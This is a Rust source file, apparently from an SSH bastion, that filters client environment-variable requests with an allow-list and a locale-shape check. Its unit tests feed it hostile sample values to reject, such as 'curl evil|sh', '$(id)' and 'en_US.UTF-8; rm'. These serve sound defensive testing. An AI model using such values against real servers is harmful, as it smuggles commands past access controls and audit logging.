//! Which `env` requests reach the target (`ssh.accept_env`, `ssh.env_values`). The target's
//! sshd usually accepts `LANG` and `LC_*` (Debian's `AcceptEnv LANG LC_*`), so without a gate a
//! client could carry a command in `LC_X` past exec rules and out of the record. Names are
//! matched against the allow-list (a trailing `*` is a prefix); by default a value must also
//! look like a locale. Pure.

use bastion_core::config::EnvValues;

/// Longest name and value passed.
const MAX_NAME: usize = 64;
const MAX_VALUE: usize = 64;

#[derive(Debug, Clone)]
pub struct EnvGate {
    accept: Vec<String>,
    values: EnvValues,
}

impl EnvGate {
    pub fn new(accept: Vec<String>, values: EnvValues) -> EnvGate {
        EnvGate { accept, values }
    }

    /// Ok when `name=value` may be passed to the target, else why not.
    pub fn judge(&self, name: &str, value: &str) -> Result<(), String> {
        let listed = name.len() <= MAX_NAME
            && self
                .accept
                .iter()
                .any(|pattern| match pattern.strip_suffix('*') {
                    Some(prefix) => name.starts_with(prefix),
                    None => name == pattern,
                });
        if !listed {
            return Err(format!(
                "environment variable `{}` is not in ssh.accept_env",
                printable(name)
            ));
        }
        if self.values == EnvValues::Locale && !locale_shaped(value) {
            return Err(format!(
                "the value of `{name}` does not look like a locale (ssh.env_values = \"locale\")"
            ));
        }
        if value.len() > MAX_VALUE || value.chars().any(char::is_control) {
            return Err(format!(
                "the value of `{name}` is too long or not printable"
            ));
        }
        Ok(())
    }
}

/// Empty, `C`, `POSIX`, or `language[_territory][.codeset][@modifier]` (`en_US.UTF-8`,
/// `de_DE@euro`, `C.UTF-8`).
fn locale_shaped(value: &str) -> bool {
    if matches!(value, "" | "C" | "POSIX") {
        return true;
    }
    let (rest, modifier) = value.split_once('@').unwrap_or((value, ""));
    let (rest, codeset) = rest.split_once('.').unwrap_or((rest, ""));
    let (language, territory) = rest.split_once('_').unwrap_or((rest, ""));
    let alpha = |s: &str, min: usize, max: usize| {
        (min..=max).contains(&s.len()) && s.bytes().all(|b| b.is_ascii_alphabetic())
    };
    let token = |s: &str| {
        s.len() <= 16
            && s.bytes()
                .all(|b| b.is_ascii_alphanumeric() || b == b'-' || b == b'_')
    };
    (alpha(language, 2, 3) || language == "C")
        && (territory.is_empty() || alpha(territory, 2, 3))
        && token(codeset)
        && token(modifier)
        && value.len() <= MAX_VALUE
}

/// A name as it may be shown in a refusal: a hostile client's bytes are not echoed raw.
fn printable(s: &str) -> String {
    s.chars()
        .take(MAX_NAME)
        .map(|c| if c.is_control() { '?' } else { c })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn gate(values: EnvValues) -> EnvGate {
        EnvGate::new(vec!["LANG".into(), "LC_*".into()], values)
    }

    #[test]
    fn locales_pass_and_commands_do_not() {
        let g = gate(EnvValues::Locale);
        for (name, value) in [
            ("LANG", "en_US.UTF-8"),
            ("LC_ALL", "C"),
            ("LC_TIME", "de_DE@euro"),
            ("LC_CTYPE", "C.UTF-8"),
            ("LANG", "POSIX"),
            ("LC_ALL", ""),
        ] {
            assert_eq!(g.judge(name, value), Ok(()), "{name}={value}");
        }
        for (name, value, why) in [
            ("LC_X", "curl evil|sh", "locale"),
            ("LC_X", "$(id)", "locale"),
            ("LANG", "en_US.UTF-8; rm", "locale"),
            ("PATH", "/tmp", "not in ssh.accept_env"),
            ("LANGUAGE", "en", "not in ssh.accept_env"),
            ("BASH_ENV", "x", "not in ssh.accept_env"),
        ] {
            let e = g.judge(name, value).unwrap_err();
            assert!(e.contains(why), "{name}={value}: {e}");
        }
    }

    #[test]
    fn any_values_still_needs_the_name_and_a_printable_value() {
        let g = gate(EnvValues::Any);
        assert_eq!(g.judge("LC_MESSAGES", "whatever you like"), Ok(()));
        assert!(g.judge("LC_X", "a\nb").is_err());
        assert!(g.judge("LC_X", &"x".repeat(65)).is_err());
        assert!(g.judge("TERMCAP", "x").is_err());
    }
}
